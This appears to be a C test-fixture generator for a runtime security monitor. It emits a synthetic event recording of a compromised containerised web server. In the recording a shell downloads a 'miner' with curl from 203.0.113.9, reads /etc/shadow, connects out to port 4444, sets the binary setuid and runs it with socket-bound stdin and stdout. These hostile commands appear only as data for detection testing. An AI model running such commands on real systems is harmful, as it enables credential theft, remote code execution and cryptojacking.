/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Writes the recording tests/replay/story.bhrec to standard output: a web
 * server in a container runs a shell, which reads a file, fetches a program
 * over the network, runs it, and ends. Byte for byte the same each time.
 */
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "model/event.h"
#include "sense/recording.h"

#define ID "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"
#define SECOND 1000000000ull

static struct bh_buf out;
static uint64_t now = 100 * SECOND;

static struct bh_ev_head head(unsigned type, uint32_t pid, int64_t res) {
        now += SECOND / 4;
        return (struct bh_ev_head){ .type = (uint16_t) type, .ktime_ns = now, .cgroup_id = 4242, .pid = pid, .tid = pid, .res = res,
                                    .euid = 33, .egid = 33, .pidns = 99 };
}

static void put_process(unsigned type, uint32_t pid, uint32_t ppid, uint32_t flags, const char *exe, struct bh_str argv) {
        struct bh_ev_proc p = { .pid = pid, .ppid = ppid, .vpid = pid - 1000, .pgid = pid, .sid = 1001, .vpgid = pid - 1000,
                                .uid = 33, .euid = 33, .gid = 33, .egid = 33, .loginuid = UINT32_MAX, .flags = flags,
                                .start_ns = now, .exe_ino = 7, .cgroup_id = 4242, .ns_pid = 99 };
        const char *slash = strrchr(exe, '/');
        const struct bh_str strs[BH_PROC_STRS] = { bh_str_of(exe),    argv, BH_STR("PATH=/bin\0LANG=C\0"), bh_str_of(slash ? slash + 1 : exe),
                                                   BH_STR("/var/www"), BH_STR("/docker/" ID), bh_str_of(exe) };

        bh_event_put(&out, &(struct bh_event_parts){ .head = head(type, pid, 0), .proc = &p, .strs = strs, .n_strs = BH_PROC_STRS });
}

static void put_fork(uint32_t parent, uint32_t child) {
        struct bh_ev_proc p = { .pid = child, .ppid = parent, .vpid = child - 1000, .uid = 33, .euid = 33, .gid = 33, .egid = 33,
                                .loginuid = UINT32_MAX, .cgroup_id = 4242, .ns_pid = 99 };
        const struct bh_str strs[BH_PROC_STRS] = { 0 };
        struct bh_ev_head h = head(BH_EV_CLONE, parent, child);

        p.start_ns = now;
        bh_event_put(&out, &(struct bh_event_parts){ .head = h, .proc = &p, .strs = strs, .n_strs = BH_PROC_STRS });
}

static void put_container(void) {
        const struct bh_str json = BH_STR("{\"id\":\"" ID "\",\"runtime\":\"docker\",\"name\":\"web\",\"image\":\"shop/web:3\","
                                          "\"image_repository\":\"shop/web\",\"image_tag\":\"3\",\"known\":true,\"cgroup_id\":4242,"
                                          "\"start_ns\":1790000000000000000,\"mounts\":[{\"source\":\"/srv\",\"dest\":\"/var/www\","
                                          "\"mode\":\"ro\",\"writable\":false}],\"labels\":[{\"key\":\"team\",\"value\":\"shop\"}]}");

        bh_event_put(&out, &(struct bh_event_parts){ .head = head(BH_EV_CONTAINER, 1001, 0), .strs = &json, .n_strs = 1 });
}

static void put_open(uint32_t pid, int64_t res, int flags, const char *path) {
        struct bh_ev_fd fd = { .num = (int32_t) res, .kind = BH_FD_FILE, .dev = 0xfd01, .ino = 1234, .open_flags = (uint32_t) flags,
                               .mode = 0100600, .magic = 0x794c7630, .flags = BH_FD_LOWER };
        const uint64_t nums[6] = { (uint64_t) AT_FDCWD, 0, (uint64_t) flags, 0755 };
        const struct bh_str good[3] = { bh_str_of(path) }, bad[3] = { { 0 }, BH_STR("/var/www"), bh_str_of(path) };

        bh_event_put(&out, &(struct bh_event_parts){ .head = head(BH_EV_OPENAT, pid, res), .fd = res < 0 ? NULL : &fd, .nums = nums,
                                                     .n_nums = 6, .strs = res < 0 ? bad : good, .n_strs = 3 });
}

static void put_connect(uint32_t pid) {
        struct bh_ev_fd fd = { .num = 5, .kind = BH_FD_IPV4, .l4 = IPPROTO_TCP, .family = AF_INET, .flags = BH_FD_CLIENT,
                               .lport = 40000, .rport = 4444, .lip = { 172, 17, 0, 2 }, .rip = { 203, 0, 113, 9 } };
        const uint64_t nums[6] = { 5, 0, 16 };
        const struct bh_str name = { 0 };

        bh_event_put(&out, &(struct bh_event_parts){ .head = head(BH_EV_CONNECT, pid, -115), .fd = &fd, .nums = nums, .n_nums = 6,
                                                     .strs = &name, .n_strs = 1 });
}

static void put_chmod(uint32_t pid) {
        const uint64_t nums[6] = { (uint64_t) AT_FDCWD, 0, 04755 };
        const struct bh_str strs[] = { BH_STR("/tmp"), BH_STR("./x/../miner") };

        bh_event_put(&out, &(struct bh_event_parts){ .head = head(BH_EV_FCHMODAT, pid, 0), .nums = nums, .n_nums = 6, .strs = strs, .n_strs = 2 });
}

static void put_exit(uint32_t pid, unsigned status) {
        const uint64_t nums[] = { status, 1001 };

        bh_event_put(&out, &(struct bh_event_parts){ .head = head(BH_EV_PROCEXIT, pid, 0), .nums = nums, .n_nums = 2 });
}

int main(void) {
        const struct bh_recording_head h = { .boot_ns = 1790000000ll * 1000000000, .made_ns = 1790000100ll * 1000000000, .machine = "node-1" };
        const uint64_t lost[] = { BH_LANE_FILE, BH_EV_OPENAT, 17, 4242 };

        bh_recording_head_put(&out, &h);
        put_container();
        put_process(BH_EV_ALIVE, 1001, 1, 0, "/usr/sbin/nginx", BH_STR("nginx: master process\0"));
        put_fork(1001, 1002);
        put_process(BH_EV_EXECVE, 1002, 1001, BH_PROC_EXE_LOWER, "/bin/sh", BH_STR("sh\0-c\0curl 203.0.113.9/m -o /tmp/miner\0"));
        put_open(1002, 3, O_RDONLY | O_CLOEXEC, "/etc/shadow");
        put_open(1002, -2, O_RDONLY, "../nothing");
        put_fork(1002, 1003);
        put_process(BH_EV_EXECVE, 1003, 1002, BH_PROC_EXE_LOWER, "/usr/bin/curl", BH_STR("curl\0""203.0.113.9/m\0-o\0/tmp/miner\0"));
        put_connect(1003);
        put_open(1003, 6, O_WRONLY | O_CREAT | O_TRUNC, "/tmp/miner");
        put_exit(1003, 0);
        put_chmod(1002);
        put_fork(1002, 1004);
        put_exit(1002, 9);
        put_process(BH_EV_EXECVE, 1004, 1002, BH_PROC_EXE_UPPER | BH_PROC_STDIN_SOCKET | BH_PROC_STDOUT_SOCKET, "/tmp/miner", BH_STR("/tmp/miner\0"));
        bh_event_put(&out, &(struct bh_event_parts){ .head = head(BH_EV_LOST, 0, 0), .nums = lost, .n_nums = 4 });
        put_exit(1004, 11 | 0x80);
        return fwrite(out.at, 1, out.len, stdout) != out.len;
}
